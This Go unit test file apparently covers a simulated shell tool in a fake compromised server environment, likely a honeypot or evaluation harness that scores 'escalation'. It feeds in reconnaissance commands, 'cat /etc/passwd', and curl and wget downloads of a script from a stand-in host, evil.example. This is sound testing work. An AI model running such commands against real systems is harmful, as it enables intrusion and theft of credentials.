package simulators

import (
	"context"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestShellExecCommands(t *testing.T) {
	env := newTestEnv(t)
	sessionID := env.newSession(t)
	ctx := context.Background()

	tests := []struct {
		name     string
		command  string
		contains []string
	}{
		{"whoami", "whoami", []string{"deploy"}},
		{"id", "id", []string{"uid=1000(deploy)", "sudo"}},
		{"uname", "uname -a", []string{"Linux", "x86_64"}},
		{"hostname", "hostname", []string{"web-frontend-01"}},
		{"ls app", "ls -la /app", []string{".env", "config.yaml"}},
		{"ls home", "ls /home/deploy", []string{".aws", ".ssh"}},
		{"ps", "ps aux", []string{"postgres", "node", "redis"}},
		{"env", "env", []string{"NODE_ENV=production", "DATABASE_URL"}},
		{"ifconfig", "ifconfig", []string{"10.0.1.10", "eth0"}},
		{"netstat", "netstat -tlnp", []string{"LISTEN", "5432"}},
		{"docker ps", "docker ps", []string{"node:18-slim", "postgres:15"}},
		{"crontab", "crontab -l", []string{"backup.sh"}},
		{"history", "history", []string{"git pull", "psql"}},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			result := env.registry.Dispatch(ctx, "shell_exec",
				map[string]any{"command": tt.command}, sessionID)
			for _, want := range tt.contains {
				assert.Contains(t, result.Output, want)
			}
			assert.False(t, result.IsError)
		})
	}
}

func TestShellExecUnknownCommand(t *testing.T) {
	env := newTestEnv(t)
	sessionID := env.newSession(t)

	result := env.registry.Dispatch(context.Background(), "shell_exec",
		map[string]any{"command": "hackertool --pwn"}, sessionID)

	assert.Contains(t, result.Output, "bash: hackertool: command not found")
	assert.False(t, result.IsError)
	assert.Equal(t, 0, result.EscalationDelta)
}

func TestShellExecEmptyCommand(t *testing.T) {
	sim := NewShellExecSimulator()
	sess := newTestSession(t)

	result := sim.Simulate(context.Background(), map[string]any{"command": "   "}, sess)
	assert.True(t, result.IsError)
	assert.Empty(t, result.Output)
}

func TestShellExecCommandTooLong(t *testing.T) {
	sim := NewShellExecSimulator()
	sess := newTestSession(t)

	result := sim.Simulate(context.Background(),
		map[string]any{"command": strings.Repeat("a", 5000)}, sess)

	assert.True(t, result.IsError)
	assert.Contains(t, result.Output, "command too long")
}

func TestShellExecDangerousGatedOnRecognition(t *testing.T) {
	sim := NewShellExecSimulator()
	sess := newTestSession(t)

	benign := sim.Simulate(context.Background(), map[string]any{"command": "whoami"}, sess)
	assert.Equal(t, 0, benign.EscalationDelta)

	// curl is on the dangerous list but has no handler, so the not-found
	// branch wins and drops the escalation flag with it.
	dangerous := sim.Simulate(context.Background(),
		map[string]any{"command": "curl http://evil.example/x.sh"}, sess)
	assert.Contains(t, dangerous.Output, "bash: curl: command not found")
	assert.False(t, dangerous.IsError)
	assert.Equal(t, 0, dangerous.EscalationDelta)
}

func TestShellExecStripsBinaryPath(t *testing.T) {
	sim := NewShellExecSimulator()
	sess := newTestSession(t)

	result := sim.Simulate(context.Background(), map[string]any{"command": "/usr/bin/whoami"}, sess)
	assert.Equal(t, "deploy", result.Output)

	stripped := sim.Simulate(context.Background(),
		map[string]any{"command": "/usr/bin/wget http://evil.example/x.sh"}, sess)
	assert.Contains(t, stripped.Output, "bash: wget: command not found")
	assert.Equal(t, 0, stripped.EscalationDelta)
}

func TestShellExecCatNudgesTowardFileRead(t *testing.T) {
	sim := NewShellExecSimulator()
	sess := newTestSession(t)

	result := sim.Simulate(context.Background(), map[string]any{"command": "cat /etc/passwd"}, sess)
	assert.Contains(t, result.Output, "file_read")
	assert.False(t, result.IsError)
}

func TestShellExecLsUnknownDirectory(t *testing.T) {
	sim := NewShellExecSimulator()
	sess := newTestSession(t)

	result := sim.Simulate(context.Background(), map[string]any{"command": "ls /secret/path"}, sess)
	assert.Contains(t, result.Output, "ls: cannot access '/secret/path': No such file or directory")
}
